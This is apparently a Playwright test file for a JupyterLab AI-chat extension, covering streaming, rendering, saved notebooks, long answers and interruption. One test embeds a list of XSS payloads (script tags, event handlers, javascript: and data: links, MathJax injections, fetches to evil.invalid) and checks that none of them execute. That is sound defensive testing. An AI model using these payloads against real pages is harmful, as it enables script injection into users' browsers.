"""What a person sees in JupyterLab."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

import nbformat
import pytest
from byte_server import END, HANG, HEAD, ByteServer, delta, finish, piece, stream, usage
from lab import Lab, Notebook
from playwright.sync_api import Page, Route

ANSWER = (
    "# Cats\n\nA **cat** costs $5 and $10, and \\(e^{i\\pi} = -1\\) holds.\n\n$$\\sum_{i=1}^n i$$\n\n"
    "```python\ndef meow(times):\n    return 'meow' * times  # often\n```\n\n"
    "| cat | age |\n|---|---|\n| Tom | 3 |\n\n- [x] fed\n- [ ] asleep\n\n[a link](https://example.org/cats)\n\nThe end.\n"
)


def parts(text: str, size: int = 6) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


def test_the_cell_streams_and_everything_renders(
    open_notebook: Callable[..., Notebook], server: ByteServer, page: Page
) -> None:
    notebook = open_notebook(
        "stream.ipynb", f"%%ai -o a --base-url {server.on('s', *stream(*parts(ANSWER), pause=0.08))}\nHi"
    )
    notebook.run_all()
    page.wait_for_selector("text=A cat costs", timeout=60_000)
    first = notebook.text(1)
    page.wait_for_timeout(1500)
    second = notebook.text(1)
    assert len(second) > len(first) > 5
    assert "The end." not in second
    notebook.wait_for_idle()
    output = notebook.output(1)
    assert output.count() == 1
    page.wait_for_function("() => document.querySelectorAll('.aitunnel mjx-container').length >= 2", timeout=60_000)
    assert output.locator("mjx-container").count() == 2
    text = notebook.text(1)
    assert "A cat costs $5 and $10, and" in text
    assert "test-model · " in text
    assert "0.51 ₽" in text
    assert output.locator("table td").all_inner_texts() == ["Tom", "3"]
    assert "def meow(times):" in output.locator("pre code").inner_text()
    assert output.locator("pre code [class], pre code b, pre code i, pre code s").count() >= 3, "highlighted"
    assert output.locator("a[href='https://example.org/cats']").get_attribute("rel").startswith("noopener")


def test_the_saved_notebook_shows_the_answer_without_a_kernel(
    open_notebook: Callable[..., Notebook], server: ByteServer, jupyter: Lab, page: Page
) -> None:
    notebook = open_notebook(
        "saved.ipynb", f"%%ai -o a --base-url {server.on('s', *stream(*parts(ANSWER), pause=0.01))}\nHi"
    )
    notebook.run_all()
    page.wait_for_selector("text=The end.", timeout=60_000)
    notebook.wait_for_idle()
    notebook.save()
    saved = nbformat.read(jupyter.folder / "saved.ipynb", as_version=4)
    (output,) = saved.cells[1].outputs
    assert output["data"]["text/plain"] == ANSWER
    assert (
        len(json.dumps(output, ensure_ascii=False)) <= 3 * len(ANSWER) + 1024 + 400
    )  # a short answer: style dominates
    # As another person gets it: other name, not trusted, no kernel.
    saved.metadata.kernelspec["name"] = "none-such"
    nbformat.write(saved, jupyter.folder / "foreign.ipynb")
    page.goto(f"{jupyter.url}/lab/tree/foreign.ipynb?reset")
    page.wait_for_selector("text=The end.", timeout=120_000)
    shown = "\n".join(page.locator(".jp-OutputArea-output").all_inner_texts())
    assert "A cat costs $5 and $10" in shown
    assert "def meow(times):" in shown
    assert "0.51 ₽" in shown


HOSTILE = """
<script>window.pwned = 1; fetch('http://evil.invalid/script')</script>
<img src="http://evil.invalid/html.png" onerror="window.pwned = 2">
<svg onload="window.pwned = 3"><image href="http://evil.invalid/svg.png"/></svg>
<iframe src="http://evil.invalid/frame" srcdoc="<script>parent.pwned = 4</script>"></iframe>
<div style="background:url(http://evil.invalid/css.png)">css</div>
<style>body { background: url(http://evil.invalid/style.png) }</style>
<a href="#" data-commandlinker-command="notebook:insert-cell-below" data-commandlinker-args="{}">cmd1</a>
<link rel="stylesheet" href="http://evil.invalid/link.css"><meta http-equiv="refresh" content="0;url=http://evil.invalid/">

![pic](http://evil.invalid/markdown.png) [js](javascript:window.pwned=5) [data](data:text/html,<script>parent.pwned=6</script>)
[cmd](command:notebook:insert-cell-below) [vb](vbscript:x) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

\\(\\href{javascript:window.pwned=7}{click}\\) $$\\require{html}\\style{background:url(http://evil.invalid/tex.png)}{x}$$
$\\unicode{x}$ \\(</span><script>window.pwned=8</script>\\)

```"><script>window.pwned=9</script>
</code></pre><script>window.pwned = 10</script><img src=http://evil.invalid/code.png onerror=window.pwned=11>
```

<details open ontoggle="window.pwned=12"> The end of evil.
"""


def evil(form: str) -> list[Any]:
    """The same text as answer, reasoning and model name."""
    return [
        HEAD,
        *[piece(delta(reasoning=part)) for part in parts(HOSTILE, 40)],
        0.3,
        *[action for part in parts(HOSTILE, 40) for action in (piece(delta(part)), 0.02)],
        piece(
            finish().replace(
                b'{"choices"',
                b'{"model": "<img src=http://evil.invalid/model.png onerror=window.pwned=13>", "choices"',
            )
        ),
        piece(usage()),
        END,
    ]


@pytest.mark.parametrize("form", ["markdown", "text", "code", "json", "html", "math"])
def test_a_hostile_answer_runs_nothing_and_fetches_nothing(
    open_notebook: Callable[..., Notebook], server: ByteServer, page: Page, form: str
) -> None:
    fetched: list[str] = []
    dialogs: list[str] = []

    # What reaches the network; a request that a policy blocks does not (page.on("request") would tell of it too).
    def on_the_network(route: Route) -> None:
        fetched.append(route.request.url)
        route.abort()

    page.route(
        lambda url: urlsplit(url).scheme.startswith("http") and urlsplit(url).hostname != "127.0.0.1",
        on_the_network,
    )
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    base_url = server.on(f"evil{form}", *evil(form))
    notebook = open_notebook(f"evil-{form}.ipynb", f"%%ai -f {form} -o a --base-url {base_url}\nHi", "a")
    notebook.run_all()
    page.wait_for_selector("text=The end of evil", timeout=60_000, state="attached")
    notebook.wait_for_idle()
    page.wait_for_timeout(1000)
    cells = page.locator(".jp-Notebook .jp-Cell").count()
    for link in page.locator(".aitunnel a").all():
        href = link.get_attribute("href") or ""
        assert urlsplit(href).scheme in {"http", "https", "mailto"}, href
    for word in ("cmd1", "js", "cmd", "click"):
        for place in page.locator(f".aitunnel >> text={word}").all()[:3]:
            if place.is_visible():
                place.click(force=True, timeout=5000, no_wait_after=True)
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    assert fetched == []
    assert dialogs == []
    assert page.locator(".jp-Notebook .jp-Cell").count() == cells


def test_a_very_long_answer_stays_smooth(
    open_notebook: Callable[..., Notebook], server: ByteServer, page: Page
) -> None:
    section = ANSWER.replace("The end.", "Word after word, the answer goes on and on, and nobody's browser minds. " * 8)
    text = (section * (100_000 // len(section) + 1))[:100_000] + "\n\nThe very end."
    base_url = server.on("long", *stream(*parts(text, 100), pause=0.015))
    notebook = open_notebook("long.ipynb", f"%%ai -o a --base-url {base_url}\nHi", "len(a)")
    page.evaluate(
        "() => { window.tasks = []; new PerformanceObserver(list => list.getEntries().forEach("
        "entry => window.tasks.push(entry.duration))).observe({entryTypes: ['longtask']}); }"
    )
    notebook.run_all()
    page.wait_for_selector("text=The very end.", timeout=170_000)
    notebook.wait_for_idle()
    assert str(len(text)) in notebook.text(2)
    assert notebook.text(1).count("def meow(times):") == text.count("def meow(times):")
    tasks = page.evaluate("window.tasks")
    # The bar is 0.3 s (benchmarks/browser.py reports it); this machine-independent one catches a frozen page.
    assert max(tasks, default=0) < 3000, sorted(tasks)[-5:]


def test_the_stop_button_stops(open_notebook: Callable[..., Notebook], server: ByteServer, page: Page) -> None:
    base_url = server.on("stop", HEAD, piece(delta("Once upon a time")), HANG)
    notebook = open_notebook("stop.ipynb", f"%%ai -o a --base-url {base_url}\nHi")
    notebook.run_all()
    page.wait_for_selector("text=Once upon a time", timeout=60_000)
    time.sleep(0.3)
    notebook.command("notebook:interrupt-kernel")
    notebook.wait_for_idle()
    text = notebook.text(1)
    assert "Once upon a time" in text
    assert text.rstrip().endswith("stopped")
    server.wait_for(lambda: server.requests("stop")[0].closed_at)
